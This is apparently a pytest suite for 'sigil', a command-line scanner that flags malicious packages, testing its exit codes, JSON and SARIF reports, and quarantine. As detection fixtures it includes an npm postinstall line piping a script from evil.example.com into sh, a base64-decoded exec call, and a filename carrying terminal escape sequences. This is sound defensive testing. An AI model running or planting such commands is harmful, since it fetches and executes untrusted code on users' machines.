"""`sigil scan PATH` run as a subprocess: report, exit codes, --json, --sarif, offline signatures."""

import io
import json
import tarfile

from domain.pack import BUILTIN_PACK_PATH
from scans.engine import load_rules, tree_hash, verdict_for_score

from tests.cli.conftest import EVIL_NPM_PACKAGE, quarantine_ids, write_tree


def test_a_clean_project_exits_0_and_reports_every_phase(offline_sigil, clean_project):
    proc = offline_sigil("scan", clean_project)

    assert proc.returncode == 0, proc.stderr
    for name in ("install_hooks", "code_patterns", "network_exfil", "credentials", "obfuscation", "provenance"):
        assert name in proc.stdout
    assert "Score 0" in proc.stdout
    assert "CLEAN" in proc.stdout
    assert "\x1b[" not in proc.stdout  # not a terminal: no colour


def test_a_malicious_postinstall_exits_2_and_names_file_and_line(offline_sigil, evil_package):
    proc = offline_sigil("scan", evil_package)

    assert proc.returncode == 2, proc.stderr
    assert "package.json:5" in proc.stdout
    assert "curl https://evil.example.com/x.sh | sh" in proc.stdout
    assert "CRITICAL" in proc.stdout or "HIGH" in proc.stdout
    assert "sigil reject" in proc.stdout


def test_json_prints_a_scan_body_whose_phases_add_up_and_whose_verdict_matches(offline_sigil, evil_package):
    proc, body = offline_sigil.json("scan", evil_package, "--json")

    assert proc.returncode == 2
    assert set(body) == {"quarantine_id", "source_type", "source_ref", "source_hash", "score", "verdict",
                         "phases", "file_stats", "cli_version"}
    assert [p["phase"] for p in body["phases"]] == [1, 2, 3, 4, 5, 6]
    assert sum(p["score"] for p in body["phases"]) == body["score"]
    assert body["verdict"] == verdict_for_score(body["score"])
    assert body["source_type"] == "local"
    assert body["source_ref"] == "evil-pkg"  # the name only, never the absolute path
    assert body["source_hash"] == tree_hash(evil_package)  # same content, same hash as the server
    assert any("package.json:5" in f for f in body["phases"][0]["findings"])
    assert body["file_stats"]["total_files"] == 2
    assert quarantine_ids(offline_sigil.home) == [body["quarantine_id"]]


def test_sarif_has_the_keys_code_scanning_tools_require(offline_sigil, evil_package):
    proc, sarif = offline_sigil.json("scan", evil_package, "--sarif")

    assert proc.returncode == 2
    assert sarif["version"] == "2.1.0"
    assert "sarif" in sarif["$schema"]
    driver = sarif["runs"][0]["tool"]["driver"]
    assert driver["name"] == "sigil"
    rule_ids = {r["id"] for r in driver["rules"]}
    results = sarif["runs"][0]["results"]
    assert results
    for result in results:
        assert result["ruleId"] in rule_ids
        assert result["level"] in ("error", "warning", "note")
        assert result["message"]["text"]
        location = result["locations"][0]["physicalLocation"]
        assert location["artifactLocation"]["uri"]
        assert location["region"]["startLine"] >= 1
    hook = [r for r in results if r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "package.json"]
    assert any(r["level"] == "error" and r["locations"][0]["physicalLocation"]["region"]["startLine"] == 5 for r in hook)


def test_offline_scans_use_the_built_in_pack(offline_sigil, evil_package):
    proc = offline_sigil("scan", evil_package)

    assert proc.returncode == 2
    assert f"{len(load_rules(BUILTIN_PACK_PATH))} from the built-in pack" in proc.stdout


def test_a_stored_login_with_the_server_down_still_scans_with_the_built_in_pack(offline_sigil, evil_package):
    offline_sigil.home.mkdir(mode=0o700)
    (offline_sigil.home / "credentials.json").write_text(json.dumps(
        {"api_url": offline_sigil.api_url, "email": "a@example.com", "access_token": "x.y.z"}))

    proc = offline_sigil("scan", evil_package)

    assert proc.returncode == 2
    assert "built-in pack (sync failed: cannot reach" in proc.stdout


def test_a_local_archive_is_scanned_in_memory_and_quarantined_unextracted(offline_sigil, tmp_path):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in EVIL_NPM_PACKAGE.items():
            data = text.encode()
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    archive = tmp_path / "evil-pkg-1.0.0.tgz"
    archive.write_bytes(buf.getvalue())

    proc, body = offline_sigil.json("scan", archive, "--json")

    assert proc.returncode == 2
    assert any("package.json:5" in f for f in body["phases"][0]["findings"])
    content = offline_sigil.home / "quarantine" / body["quarantine_id"] / "content"
    assert [p.name for p in content.iterdir()] == ["evil-pkg-1.0.0.tgz"]
    assert (content / "evil-pkg-1.0.0.tgz").read_bytes() == buf.getvalue()


def test_hostile_control_characters_are_printed_escaped(offline_sigil, tmp_path):
    project = write_tree(tmp_path / "ansi", {"app\x1b]0;owned\x07\x1b[2J.py": "import base64\nexec(base64.b64decode(s))\n"})

    proc = offline_sigil("scan", project)

    assert proc.returncode in (1, 2)
    assert "app\\u001b]0;owned\\u0007\\u001b[2J.py:2" in proc.stdout
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
    assert "\\u001b" in proc.stdout


def test_no_source_or_two_sources_is_a_usage_error_exit_3(offline_sigil, clean_project):
    none = offline_sigil("scan")
    both = offline_sigil("scan", clean_project, "--npm", "left-pad")

    assert none.returncode == 3 and "exactly one source" in none.stderr
    assert both.returncode == 3 and "exactly one source" in both.stderr


def test_a_missing_path_exits_3_and_leaves_nothing_in_quarantine(offline_sigil, tmp_path):
    proc = offline_sigil("scan", tmp_path / "nope")

    assert proc.returncode == 3
    assert "no such file or directory" in proc.stderr
    assert quarantine_ids(offline_sigil.home) == []


def test_an_unknown_command_exits_3_not_2(offline_sigil):
    proc = offline_sigil("frobnicate")

    assert proc.returncode == 3
    assert "invalid choice" in proc.stderr


def _run_on_a_terminal(sigil, *args, env=None):
    """Run the CLI with stdout and stderr on a pseudo-terminal; return everything it wrote."""
    import os
    import pty
    import subprocess
    import sys

    from tests.cli.conftest import REPO_ROOT

    master, slave = pty.openpty()
    run_env = {k: v for k, v in os.environ.items() if not k.startswith("SIGIL_") and k != "NO_COLOR"}
    run_env.update(SIGIL_HOME=str(sigil.home), SIGIL_API_URL=sigil.api_url, **(env or {}))
    proc = subprocess.Popen([sys.executable, "-m", "cli.main", *map(str, args)], cwd=REPO_ROOT, env=run_env,
                            stdout=slave, stderr=slave, stdin=subprocess.DEVNULL)
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    return proc.wait(), b"".join(chunks).decode("utf-8", "replace")


def test_a_terminal_gets_colour_unless_no_color_is_set(offline_sigil, evil_package):
    code, coloured = _run_on_a_terminal(offline_sigil, "scan", evil_package)
    code_plain, plain = _run_on_a_terminal(offline_sigil, "scan", evil_package, env={"NO_COLOR": "1"})

    assert code == code_plain == 2
    assert "\x1b[1;31mCRITICAL\x1b[0m" in coloured or "\x1b[31;1mHIGH\x1b[0m" in coloured
    assert "\x1b[1;31m" not in plain and "\x1b[31;1m" not in plain


def test_a_finding_has_one_title_with_its_rule_id_in_the_report_json_and_sarif(offline_sigil, evil_package):
    rule = next(r for r in load_rules(BUILTIN_PACK_PATH) if r.id == "sig_001")  # npm install script that downloads and runs
    title = f"{rule.description} [{rule.id}]"

    text = offline_sigil("scan", evil_package).stdout
    _, body = offline_sigil.json("scan", evil_package, "--json")
    _, sarif = offline_sigil.json("scan", evil_package, "--sarif")

    assert f"{rule.description}  [{rule.id}," in text
    assert any(f.startswith(title + " in package.json:") for f in body["phases"][0]["findings"])
    assert title in {r["message"]["text"] for r in sarif["runs"][0]["results"]}


def test_json_lists_the_dependencies_the_package_declares(offline_sigil, tmp_path):
    project = write_tree(tmp_path / "kit", {
        "package.json": json.dumps({"name": "kit", "version": "1.0.0",
                                    "dependencies": {"flatmap-stream": "^0.1.0"}, "devDependencies": {"jest": "^29"}}),
        "index.js": "module.exports = 1;\n",
    })
    proc, body = offline_sigil.json("scan", project, "--json")
    assert proc.returncode == 0, proc.stderr
    assert body["dependencies"] == [{"ecosystem": "npm", "name": "flatmap-stream", "spec": "^0.1.0"}]
